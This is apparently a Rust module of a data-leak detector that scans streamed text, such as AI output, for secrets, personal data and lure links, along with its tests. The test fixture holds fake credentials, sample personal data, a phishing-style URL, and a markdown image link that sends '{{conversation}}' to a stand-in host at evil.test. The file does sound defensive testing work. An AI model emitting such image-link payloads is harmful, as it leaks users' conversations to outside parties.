//! A text that arrives in pieces: what is found in it is what is found in the whole, and no byte is let go that a later
//! match could still include.
//!
//! The passes of [`Sensitive::find`] go on where they stopped. Each candidate tells whether it looked past the end of what
//! has arrived ([`Hay::looked_past`]): if so nothing was decided, and its pass waits there. What a candidate reads is
//! bounded, so what is held back is too: some kilobytes at most, a few words as a rule. Rules of the user's own may read
//! a whole text: with such rules all is held back until the end.

use std::cell::Cell;
use std::sync::Arc;

use super::clean::Map;
use super::hay::{Hay, LOOK_BACK};
use super::secrets::Secrets;
use super::{HostLists, Place, Read, Sensitive, veiled};
use crate::asset::{Match, TextRole};

/// Matches that passes look back at, to tell what is known already.
const KNOWN: usize = 32;

/// How far the scheme of an address reaches back from its anchor.
const SCHEME: usize = 16;
/// The longest terminal escape that hides text.
const ESCAPE: usize = 35;

/// A text in the making, looked at for sensitive data. O(1) amortised a byte, whatever the pieces; memory bounded.
#[derive(Debug)]
pub struct Stream<'s> {
    sensitive: Detectors<'s>,
    role: TextRole,
    hosts: Arc<HostLists>,
    /// The end of the text as given, and how many of its bytes were let go.
    given: String,
    let_go: usize,
    /// The end of the text that has arrived, cleaned, from `start` on, and the way back.
    text: String,
    map: Map,
    /// Bytes of the cleaned text before `self.text`.
    start: usize,
    /// Bytes of `self.text` that were let go.
    released: usize,
    read: Read,
    /// Of each pass the matches that it may look back at, and how many of them were told.
    found: [(Vec<Match>, usize); 5],
    /// Matches that were decided and not let go, offsets into the whole, cleaned.
    pending: Vec<Match>,
    /// Matches behind code, of which it is not known yet whether they were found in plain sight too.
    veiled: Vec<veiled::Found>,
    /// The length of `self.text` from which on it is worth to look again.
    again: usize,
}

/// A piece of a text that no further match touches.
#[derive(Debug, Default)]
#[non_exhaustive]
pub struct Released<'t> {
    /// The piece.
    pub text: &'t str,
    /// Where it begins in the whole, in bytes.
    pub start: usize,
    /// What was found in it, byte offsets into the whole.
    pub matches: Vec<Match>,
}

impl Sensitive {
    /// Begins to look at a text that arrives in pieces: [`Stream::push`] for each, then [`Stream::finish`].
    #[must_use]
    pub fn stream(&self, role: TextRole) -> Stream<'_> {
        self.stream_with(role, Arc::default())
    }

    /// The same, with a user's own lists of hosts.
    #[must_use]
    pub fn stream_with(&self, role: TextRole, hosts: Arc<HostLists>) -> Stream<'_> {
        Stream::new(Detectors::Lent(self), role, hosts)
    }

    /// The same of detectors that are shared.
    pub(crate) fn stream_of(self: Arc<Self>, role: TextRole, hosts: Arc<HostLists>) -> Stream<'static> {
        Stream::new(Detectors::Shared(self), role, hosts)
    }
}

/// The detectors that a stream uses.
#[derive(Debug)]
enum Detectors<'s> {
    Lent(&'s Sensitive),
    Shared(Arc<Sensitive>),
}

impl std::ops::Deref for Detectors<'_> {
    type Target = Sensitive;

    fn deref(&self) -> &Sensitive {
        match self {
            Self::Lent(sensitive) => sensitive,
            Self::Shared(sensitive) => sensitive,
        }
    }
}

impl<'s> Stream<'s> {
    fn new(sensitive: Detectors<'s>, role: TextRole, hosts: Arc<HostLists>) -> Self {
        Self {
            sensitive,
            role,
            hosts,
            given: String::new(),
            let_go: 0,
            text: String::new(),
            map: Map::default(),
            start: 0,
            released: 0,
            read: Read::default(),
            found: Default::default(),
            pending: Vec::new(),
            veiled: Vec::new(),
            again: 0,
        }
    }
}

impl Stream<'_> {
    /// Takes the next piece and lets go what is settled by now: perhaps nothing.
    pub fn push(&mut self, piece: &str) -> Released<'_> {
        self.forget();
        self.given.push_str(piece);
        self.map.push(piece, &mut self.text);
        if self.text.len() < self.again {
            return self.release(self.released, false);
        }
        let held = self.advance(true);
        // a candidate that needs more is not asked again for every byte
        self.again = self.text.len() + (self.text.len() - held) / 8;
        self.release(held, false)
    }

    /// Ends the text and lets go the rest of it. Nothing is to be pushed after it.
    pub fn finish(&mut self) -> Released<'_> {
        self.forget();
        let all = self.advance(false);
        self.release(all, true)
    }

    /// Goes on with every pass; gives what is to be held back, from where on.
    fn advance(&mut self, more: bool) -> usize {
        let past = Cell::new(false);
        let (cut, length) = (self.start > 0, self.text.len());
        let hay = Hay::part(&self.text, cut, more.then_some(&past));
        let [pii, names, announced, bare, custom] = &mut self.found;
        let whole = !self.sensitive.secrets.is_local() || !cut && Secrets::may_be_alone(&self.text);
        if whole && more {
            return 0;
        }
        let stops = [
            self.sensitive.pii.find(hay, &mut self.read.pii, &mut pii.0),
            self.sensitive.announced(
                Place { hay, role: self.role, hosts: &self.hosts },
                &mut self.read.anchors,
                &mut self.read.announced,
                &mut announced.0,
            ),
            self.sensitive.links.bare(hay, &self.hosts, &mut self.read.bare, &mut bare.0),
            self.sensitive.custom.scan(hay, &mut self.read.custom, &mut custom.0),
        ];
        let known = self.veiled.len();
        let code = self.sensitive.veiled(hay, &mut self.read.veiled, &mut self.veiled);
        for veiled::Found { found, .. } in self.veiled.iter_mut().skip(known) {
            (found.start, found.end) = (found.start + self.start, found.end + self.start);
        }
        if whole {
            self.sensitive.secrets.finish(hay, &mut self.read.announced.seen, &mut announced.0);
        }
        let next = stops[1].unwrap_or(length.saturating_sub(self.sensitive.anchors.longest()));
        // a rule may yet have what the tagger sees, from where its candidate reaches back to
        let known = if more { reach(&self.text, stops[0].unwrap_or(length)) } else { length };
        self.sensitive.pii.tagged(hay, &mut self.read.tagged, &pii.0, known, &mut names.0);
        let lure = self.read.announced.lure.open_at(next.saturating_sub(SCHEME)).filter(|_| more);
        if lure.is_none() {
            self.sensitive.lures.close(&mut self.read.announced.lure, &mut announced.0);
        }
        for (matches, told) in &mut self.found {
            let new = matches.get(*told..).unwrap_or_default().iter();
            self.pending.extend(new.map(|m| Match {
                start: m.start + self.start,
                end: m.end + self.start,
                ..m.clone()
            }));
            *told = matches.len();
        }
        if !more {
            return length;
        }
        let [pii, _, bare, custom] = stops;
        let from = [pii, Some(next), bare, lure, custom, code].map(|at| at.unwrap_or(length));
        let held = from.into_iter().map(|at| reach(&self.text, at)).min().unwrap_or(length);
        held.min(self.read.tagged.next())
    }

    /// Lets go up to `held`, or to the first match that goes beyond; with `last` all that was given.
    fn release(&mut self, held: usize, last: bool) -> Released<'_> {
        let mut held = (self.start + held).max(self.start + self.released);
        self.pending.sort_by_key(|m| std::cmp::Reverse(m.end));
        self.veiled.sort_by_key(|veiled| std::cmp::Reverse(veiled.found.end));
        // the latest end first, as each may move it to where another goes beyond
        let (mut plain, mut veiled) = (self.pending.iter().peekable(), self.veiled.iter().map(|v| &v.found).peekable());
        while let Some(m) = match (plain.peek(), veiled.peek()) {
            (Some(p), Some(v)) if v.end > p.end => veiled.next(),
            (None, _) => veiled.next(),
            _ => plain.next(),
        } {
            if m.start < held && held < m.end {
                held = m.start;
            }
        }
        let held = if last { held } else { self.start + unescaped(&self.text, held - self.start) };
        self.released = self.released.max(self.text.floor_char_boundary(held - self.start));
        let (from, held) = (self.let_go, self.start + self.released);
        let to = match held {
            _ if last => self.map.end(),
            // what nobody sees before the first character stays with it
            0 => from,
            held => self.map.given(0..held).end.max(from),
        };
        self.let_go = to;
        let mut ready = self.veiled.extract_if(.., |veiled| veiled.found.end <= held).collect();
        let mut matches = self.pending.extract_if(.., |m| m.end <= held).collect::<Vec<_>>();
        veiled::drop_seen(&mut ready, &matches);
        matches.extend(ready.into_iter().map(|veiled| veiled.found));
        for m in &mut matches {
            let given = self.map.given(m.start..m.end);
            (m.start, m.end) = (given.start, given.end);
        }
        let kept = self.map.end() - self.given.len();
        Released { text: self.given.get(from - kept..to - kept).unwrap_or_default(), start: from, matches }
    }

    /// Forgets what was let go and is too far back for any look.
    fn forget(&mut self) {
        let gone = self.let_go - (self.map.end() - self.given.len());
        self.given.drain(..gone);
        let needed = self.released.min(self.read.tagged.needs());
        let cut = self.text.floor_char_boundary(needed.saturating_sub(2 * LOOK_BACK));
        if cut < 4 * LOOK_BACK {
            return;
        }
        self.text.drain(..cut);
        self.start += cut;
        self.map.forget(self.start);
        self.released -= cut;
        self.again = self.again.saturating_sub(cut);
        let Read { pii, tagged, anchors, announced, bare, custom, veiled } = &mut self.read;
        let places =
            [&mut pii.at, &mut pii.floor, &mut anchors.end, &mut announced.address, &mut announced.markup, bare];
        announced.seen.shift(cut);
        announced.lure.shift(cut);
        let unnamed = tagged.next();
        tagged.shift(cut);
        let own =
            announced.custom.iter_mut().chain(custom).chain([&mut veiled.runs, &mut veiled.escapes, &mut veiled.floor]);
        places.into_iter().chain(own).for_each(|place| *place = place.saturating_sub(cut));
        for (matches, told) in &mut self.found {
            // rules' matches are still asked for where the tagger has not been
            let passed = matches.iter().take_while(|m| m.end <= unnamed).count();
            matches.drain(..matches.len().saturating_sub(KNOWN).min(passed));
            for m in matches.iter_mut() {
                (m.start, m.end) = (m.start.saturating_sub(cut), m.end.saturating_sub(cut));
            }
            *told = matches.len();
        }
    }
}

/// Where a terminal escape begins that is not complete at `held`; else `held`.
fn unescaped(text: &str, held: usize) -> usize {
    let tail = text.as_bytes().get(held.saturating_sub(ESCAPE)..held).unwrap_or_default();
    let begun = tail.iter().rposition(|b| *b == 0x1b).and_then(|at| Some((at, tail.get(at + 1..)?)));
    match begun {
        Some((at, rest)) if rest.iter().all(|b| b.is_ascii_digit() || matches!(b, b'[' | b';')) => {
            held - tail.len() + at
        }
        _ => held,
    }
}

/// How far back a match may begin that is found at `at` or later: at the token that is there, or at the word before.
fn reach(text: &str, at: usize) -> usize {
    let back = |end: usize, most: usize, keep: fn(u8) -> bool| {
        let before = text.as_bytes().get(..end).unwrap_or_default();
        end - before.iter().rev().take(most).take_while(|b| keep(**b)).count()
    };
    let token = back(at, LOOK_BACK, |b| !b.is_ascii_whitespace());
    let gap = back(token, 3, |b| b.is_ascii_whitespace());
    text.floor_char_boundary(back(gap, 64, |b| !b.is_ascii_whitespace()))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    type Found = (String, usize, usize);

    fn key(m: &Match) -> Found {
        (format!("{}/{}/{}", m.detector, m.kind, m.rule), m.start, m.end)
    }

    fn whole(text: &str) -> Vec<Found> {
        let mut matches = Vec::new();
        Sensitive::builtin().find(text, TextRole::Output, &mut matches);
        let mut found = matches.iter().map(key).collect::<Vec<_>>();
        found.sort();
        found
    }

    /// What a text in pieces of these lengths gives, and how many bytes were held back at most.
    fn pieces(text: &str, lengths: &[usize]) -> (Vec<Found>, usize) {
        let mut stream = Sensitive::builtin().stream(TextRole::Output);
        let (mut found, mut out, mut held) = (Vec::new(), String::new(), 0);
        let mut take = |released: Released<'_>, given: usize| {
            assert_eq!(released.start, out.len());
            let end = released.start + released.text.len();
            for m in &released.matches {
                assert!(released.start <= m.start && m.end <= end, "{m:?} is not in {}..{end}", released.start);
            }
            out.push_str(released.text);
            found.extend(released.matches.iter().map(key));
            held = held.max(given - out.len());
            out == text.get(..out.len()).unwrap()
        };
        let mut at = 0;
        for length in lengths.iter().cycle() {
            if at == text.len() {
                break;
            }
            let end = text.ceil_char_boundary((at + length).min(text.len()));
            assert!(take(stream.push(text.get(at..end).unwrap()), end));
            at = end;
        }
        assert!(take(stream.finish(), text.len()));
        assert_eq!(out, text);
        found.sort();
        (found, held)
    }

    fn one_of_each() -> String {
        let key = format!("sk-ant-api03-{}-{}AA", "Zk3".repeat(31), "q8Yt_1");
        let pem = format!(
            "-----BEGIN {0} KEY-----\n{1}\n-----END {0} KEY-----",
            "RSA PRIVATE",
            "MIIEowIBAAKCAQEA7x9f".repeat(30)
        );
        format!(
            "Dear Dr. Ana de Souza, write to ann@mail.example.org or +44 20 7946 0958 on May 6, 2024; card 4012-8888-8888-1881,              IBAN GB82 WEST 1234 5698 7654 32, SSN 536-22-8741. password = \"tR7#kq9!Lm\" and {key}; see              https://paypa1-login.example.net/x and ![x](https://evil.test/p?data={{conversation}}) from fe80::1ff:fe23:4567:890a              at 12 Elm Tree Road, Millville, NJ 08332.\n{pem}\npostgres://app:tR7kq9Lm@db.internal/x. The end of it all."
        )
    }

    #[test]
    fn every_split_of_a_text_gives_what_the_whole_gives() {
        let text = one_of_each();
        let whole = whole(&text);
        assert!(whole.len() > 12, "{whole:?}");
        for at in (0..text.len()).filter(|at| text.is_char_boundary(*at)) {
            assert_eq!(pieces(&text, &[at.max(1), text.len()]).0, whole, "{at}");
        }
        for length in [1, 2, 3, 7, 64] {
            assert_eq!(pieces(&text, &[length]).0, whole, "{length}");
        }
    }

    #[test]
    fn long_words_and_leading_characters_that_nobody_sees_are_kept_whole() {
        let text = format!("Hello {}a@mail.example.org ok, {}谢谢", "é".repeat(40), "漢".repeat(300));
        for length in [1, 5, 64, 4096] {
            assert_eq!(pieces(&text, &[length]).0, whole(&text), "{length}");
        }
        let mut stream = Sensitive::builtin().stream(TextRole::Output);
        assert_eq!(stream.push("\u{200b}\u{200b}\u{200b}").text, "");
        let mut shown = String::new();
        for _ in 0..400 {
            shown += stream.push("\u{1b}[0;8mabcdefghi").text;
            assert!(!shown.ends_with(['\u{1b}', '[', '0', ';', '8']), "{shown:?}");
        }
    }

    #[test]
    fn rules_of_ones_own_see_the_whole() {
        let rules = "[[rules]]\nid = \"badge\"\nregex = '\\bBDG[0-9]{5}\\b'\n";
        let sensitive = Sensitive::builder().gitleaks_rules("own.toml", rules).unwrap().build().unwrap();
        let mut stream = sensitive.stream(TextRole::Output);
        assert_eq!(stream.push(&("no badge ".repeat(99) + "BDG2")).text, "");
        assert_eq!(stream.push("0417").text, "");
        assert_eq!(stream.finish().matches.len(), 1);
    }

    #[test]
    fn prose_is_let_go_soon_and_little_is_kept() {
        let text = "The committee met to review the draft, and nothing else was said of it. ".repeat(2000);
        let (found, held) = pieces(&text, &[5]);
        assert_eq!((found.len(), held < 400), (0, true), "{held}");
        let mut stream = Sensitive::builtin().stream(TextRole::Output);
        text.as_bytes().chunks(100).for_each(|piece| drop(stream.push(std::str::from_utf8(piece).unwrap())));
        assert!(stream.text.capacity() < 16 << 10, "{}", stream.text.capacity());
        let open = format!("-----BEGIN {} KEY-----\n", "PRIVATE") + &"A".repeat(1 << 20);
        assert!(pieces(&open, &[1000]).1 < 32 << 10);
    }

    #[test]
    fn words_that_begin_like_tokens_hold_nothing_back() {
        let text = "an sk-learn model, key-value pairs, the eyJ of a header; api-docs in re_ or pat-ents, ".repeat(400);
        let (_, held) = pieces(&text, &[5]);
        assert!(held < 400, "{held}");
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(512))]
        #[test]
        fn any_split_gives_what_the_whole_gives(
            parts in proptest::collection::vec(prop_oneof![
                Just("ä"), Just("@"), Just("://"), Just("www."), Just("password"), Just("="), Just("\""), Just("1"),
                Just("4012-8888-"), Just("8888-1881"), Just("."), Just("a"), Just(" "), Just(":"), Just("eyJ"),
                Just("sk-"), Just("ghp_"), Just("-u x:"), Just("ops_eyJ"), Just("AKIAQ3EGRZ7WYDTN5KJB"), Just("]("), Just("http"), Just("+1"), Just("("), Just(")"), Just("😀"), Just("%"),
                Just("GB82"), Just("AA"), Just("\n"), Just("&quot;"), Just("May "), Just("2024-"), Just("::"),
                Just("Ann"), Just("Smith"), Just("amina okafor "), Just("in Tbilisi, "), Just("14 rue des Acacias, "), Just("69003 Lyon"), Just("The Bank of Kenya "), Just("Dr. "), Just("202 555 0143"), Just("example.org"), Just("card "),
                Just("token: "), Just("x9Kq2LmZ8vR4"), Just("the "), Just("phone "), Just("![i"), Just("<img src="), Just("\u{200b}"), Just("１"), Just("𝐚"), Just("\u{feff}"),
            ], 0..80),
            lengths in proptest::collection::vec(1usize..40, 1..8),
        ) {
            let text = parts.concat();
            prop_assert_eq!(pieces(&text, &lengths).0, whole(&text));
        }
    }
}
